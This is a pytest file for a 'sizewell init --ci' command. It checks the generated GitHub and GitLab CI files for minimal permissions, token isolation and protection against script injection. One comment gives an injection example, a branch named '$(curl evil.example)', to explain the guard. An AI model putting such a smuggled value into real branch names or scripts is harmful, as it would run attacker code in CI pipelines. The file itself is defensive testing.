"""``sizewell init --ci``: the files, and what their scripts do."""

import re
import subprocess
from pathlib import Path

import pytest

from cli.init_command import ci_files
from tests.cli.ci_runner import ACTION, PIPELINE, WORKFLOW, load, scripts
from tests.cli.conftest import Sizewell
from tests.synthesis import PROJECT_ROOT


@pytest.fixture
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "repository"
    (root / ".git").mkdir(parents=True)
    monkeypatch.chdir(root)
    return root


# What is written.


def test_the_workflow_of_this_project_is_the_generated_one() -> None:
    for path, text in ci_files("github").items():
        assert (PROJECT_ROOT / path).read_bytes() == text.encode(), (
            f"write it again: sizewell init --ci github {path}"
        )


@pytest.mark.parametrize(
    ("ci", "paths", "next_step"),
    [("github", [ACTION, WORKFLOW], "open a pull request"), ("gitlab", [PIPELINE], f"include: {PIPELINE}")],
)
def test_files_are_written_and_named(
    sizewell: Sizewell, repository: Path, ci: str, paths: list[str], next_step: str
) -> None:
    result = sizewell("init", "--ci", ci)
    assert (result.exit_code, result.stderr) == (0, "")
    assert [line for line in result.stdout.splitlines() if line.endswith(": written")] == [
        f"{path}: written" for path in paths
    ]
    assert next_step in result.stdout
    assert [p.relative_to(repository).as_posix() for p in sorted(repository.rglob("*.yml"))] == paths
    assert f"{paths[0]}: is up to date" in sizewell("init", "--ci", ci).stdout


def test_a_changed_file_is_kept_unless_forced(sizewell: Sizewell, repository: Path) -> None:
    (repository / WORKFLOW).parent.mkdir(parents=True)
    (repository / WORKFLOW).write_text("mine")
    result = sizewell("init", "--ci", "github")
    assert (result.exit_code, result.stdout) == (1, "")
    assert f"nothing was written:\n  {WORKFLOW}\n" in result.stderr
    assert (repository / WORKFLOW).read_text() == "mine"
    assert not (repository / ACTION).exists()
    assert f"{WORKFLOW}: replaced" in sizewell("init", "--ci", "github", "--force").stdout
    assert (repository / WORKFLOW).read_text() == ci_files("github")[WORKFLOW]


def test_a_file_that_cannot_be_written(sizewell: Sizewell, repository: Path) -> None:
    (repository / ".gitlab").write_text("a file")
    result = sizewell("init", "--ci", "gitlab")
    assert result.exit_code == 1
    assert "cannot be written" in result.stderr


@pytest.mark.parametrize(("ci", "path"), [("github", WORKFLOW), ("gitlab", PIPELINE)])
@pytest.mark.parametrize("name", ["ml", "größe 1", 'it\'s "quoted": yes', "🚀"])
def test_a_project_below_the_root(
    sizewell: Sizewell, repository: Path, monkeypatch: pytest.MonkeyPatch, ci: str, path: str, name: str
) -> None:
    (repository / "apps" / name).mkdir(parents=True)
    monkeypatch.chdir(repository / "apps" / name)
    assert sizewell("init", "--ci", ci).exit_code == 0
    document = load((repository / path).read_text("utf-8"))
    variables = document["env"] if ci == "github" else document["sizewell-review"]["variables"]
    assert variables["PROJECT"] == f"apps/{name}"


def test_a_forge_must_be_named(sizewell: Sizewell) -> None:
    assert sizewell("init").exit_code == 2
    assert sizewell("init", "--ci", "jenkins").exit_code == 2


# What holds for every script.


@pytest.mark.parametrize("ci", ["github", "gitlab"])
def test_scripts_are_bash(ci: str) -> None:
    assert scripts(ci)
    for name, text in scripts(ci).items():
        result = subprocess.run(["bash", "-n"], input=text, capture_output=True, text=True, check=False)
        assert (result.returncode, result.stderr) == (0, ""), name


def test_no_expression_is_text_of_a_script() -> None:
    # A branch may be called $(curl evil.example): only a variable keeps it a value.
    for path, text in ci_files("github").items():
        for script in (*scripts("github").values(), *re.findall(r"run: (.+)", text)):
            assert "${{" not in script, path
    assert "github.base_ref" in ci_files("github")[ACTION]


def test_the_workflow_asks_for_no_more_than_it_needs() -> None:
    workflow = load(ci_files("github")[WORKFLOW])
    assert workflow["permissions"] == {"contents": "read", "pull-requests": "write"}
    # Not pull_request_target, which hands the secrets to the code of anybody.
    assert list(workflow["on"]) == ["pull_request"]
    assert workflow["concurrency"]["cancel-in-progress"] is True
    steps = workflow["jobs"]["review"]["steps"]
    assert steps[0]["with"] == {"fetch-depth": 0, "persist-credentials": False}
    actions = [step["uses"] for step in steps] + [
        step["uses"] for step in load(ci_files("github")[ACTION])["runs"]["steps"] if "uses" in step
    ]
    for action in actions:
        assert action == "./.github/actions/sizewell-review" or re.fullmatch(r"actions/[a-z-]+@v\d+", action)


def test_the_workflow_gives_the_action_inputs_that_it_has() -> None:
    action, workflow = (load(ci_files("github")[path]) for path in (ACTION, WORKFLOW))
    given = workflow["jobs"]["review"]["steps"][-1]["with"]
    assert given.keys() <= action["inputs"].keys()
    used = set(re.findall(r"inputs\.([a-z-]+)", ci_files("github")[ACTION]))
    assert used == set(action["inputs"])


def test_the_pipeline_runs_on_merge_requests_with_the_whole_history() -> None:
    text = ci_files("gitlab")[PIPELINE]
    job = load(text)["sizewell-review"]
    assert job["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "merge_request_event"'}]
    assert job["variables"]["GIT_DEPTH"] == "0"
    assert job["artifacts"] == {
        "when": "always",
        "expose_as": "Sizewell review",
        "paths": ["sizewell-review/"],
    }
    assert all(cache["key"].endswith("-$CI_MERGE_REQUEST_IID") for cache in job["cache"])


def test_the_code_of_a_merge_request_does_not_get_the_token() -> None:
    review, note = load(ci_files("gitlab")[PIPELINE]).values()
    assert "environment" not in review
    assert note["environment"] == {"name": "sizewell-note", "action": "access"}
    assert note["variables"] == {"GIT_STRATEGY": "none"}
    assert note["cache"] == []
    assert note["needs"] == [{"job": "sizewell-review", "artifacts": True}]
    assert note["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "merge_request_event"', "when": "always"}]
    for program in ("make", "sizewell review", "pip", '$PROJECT"'):
        assert program not in note["script"][0]


@pytest.mark.parametrize(
    ("ci", "words"),
    [
        ("github", ("CODEOWNERS", "policy.review_fail_on", "protect .github/")),
        (
            "gitlab",
            ("CODEOWNERS", "policy.review_fail_on", "protect .gitlab/", "environment scope sizewell-note"),
        ),
    ],
)
def test_what_a_change_could_switch_off_is_said(
    sizewell: Sizewell, repository: Path, ci: str, words: tuple[str, ...]
) -> None:
    said = sizewell("init", "--ci", ci).stdout
    files = "".join(ci_files(ci).values())
    head = " ".join(line.removeprefix("# ") for line in files.splitlines() if line.startswith("# "))
    for word in words:
        assert word in said
        assert word.lower() in head.lower()


def test_an_output_is_cached_for_one_pull_request() -> None:
    steps = load(ci_files("github")[WORKFLOW])["jobs"]["review"]["steps"]
    [cache] = [step["with"] for step in steps if ".sizewell/outputs" in step.get("with", {}).get("path", "")]
    number = "${{ github.event.pull_request.number }}"
    assert cache["key"] == f"sizewell-outputs-{number}-${{{{ github.sha }}}}"
    assert cache["restore-keys"] == f"sizewell-outputs-{number}-"
    assert steps[-1]["if"] == "always()"
